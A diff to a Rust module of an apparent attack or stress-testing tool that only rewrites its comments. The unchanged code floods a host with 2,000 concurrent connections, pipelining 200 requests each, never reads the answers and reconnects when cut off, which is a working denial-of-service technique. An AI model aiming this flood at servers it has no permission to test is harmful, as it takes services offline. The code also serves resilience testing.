@@ -1,4 +1,4 @@
-//! Very many connections of one address that ask again and again and never read an answer.
+//! Very many connections of one address that send requests and never read the answers.
 
 use std::time::Duration;
 
@@ -8,11 +8,11 @@ use tokio::time::sleep;
 
 use super::Attacker;
 
-/// So many at the same time.
+/// Concurrent connections.
 const SOCKETS: usize = 2_000;
-/// So many questions at once.
+/// Pipelined requests per write.
 const PIPELINED: usize = 200;
-/// When to come back after being turned away.
+/// Delay before the next connection.
 const AGAIN: Duration = Duration::from_millis(100);
 
 impl Attacker {
@@ -20,7 +20,7 @@ impl Attacker {
         join_all((0..SOCKETS).map(|_| self.socket())).await;
     }
 
-    /// One after the other: as soon as it is closed, the next one.
+    /// Connects again as soon as the server closes the connection.
     async fn socket(&self) {
         let question = format!("GET /api/openapi.json HTTP/1.1\r\nHost: {}\r\n\r\n", self.host.0);
         let questions = question.repeat(PIPELINED);
@@ -28,7 +28,7 @@ impl Attacker {
             match self.connect().await {
                 Ok(mut stream) => {
                     self.count("connected");
-                    // It is read only by the server: this waits once nobody reads on either side.
+                    // The answers are never read: the write blocks once the buffers of both sides are full.
                     while stream.write_all(questions.as_bytes()).await.is_ok() {}
                     self.count("closed by the server");
                 }
